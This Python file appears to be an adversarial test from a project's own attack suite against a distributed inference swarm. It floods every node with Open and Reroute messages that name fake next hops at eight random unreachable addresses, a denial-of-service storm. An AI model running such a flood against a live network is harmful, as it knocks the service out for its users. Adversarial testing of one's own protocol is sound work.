"""A storm of Reroutes to hops that do not answer.

Every epoch names another next hop, each at eight silent addresses.
"""

from __future__ import annotations

import asyncio
import itertools
import secrets

from attacks.target import Target, UntrustedPeer, absent, listen, untrusted_peer
from protocols.errors import SwarmError
from protocols.identity import from_seed
from protocols.ids import Span
from protocols.inference import Open, Reroute
from protocols.services import SESSION


async def attack(target: Target) -> None:
    while True:
        us = await untrusted_peer(target)
        target.on_attack()
        await asyncio.gather(*(_storm(us, target, number) for number in range(len(us.nodes))))
        await us.peer.close()


async def _storm(us: UntrustedPeer, target: Target, number: int) -> None:
    """One session after the other at one node; each ends when the node has had enough of it."""
    first = us.hop(number)
    rest = Span(first.span.stop, target.num_blocks) if first.span.stop < target.num_blocks else Span(0, first.span.start)
    session, hearing = secrets.token_bytes(16), None
    try:
        channel = await us.peer.pool.channel(first.peer, first.addresses, first.certificate)
        stream = await channel.stream(SESSION)
        hearing = asyncio.create_task(listen(target, stream))
        for epoch in itertools.count():
            nobody = from_seed(secrets.token_bytes(32)).peer_id
            silent = tuple(f"10.255.{secrets.randbelow(255)}.{secrets.randbelow(255)}:{1_000 + n}" for n in range(8))
            route = [first, absent(nobody, silent, rest)] if first.span.start == 0 else [first]
            grant = us.grant(route, session, epoch)
            word = Open(grant=grant, index=0, dtype="float32") if epoch == 0 else Reroute(grant=grant, index=0)
            await stream.send(word.encode())
            await asyncio.sleep(0.0002)
    except SwarmError:
        await asyncio.sleep(0.2)
    finally:
        if hearing is not None:
            hearing.cancel()
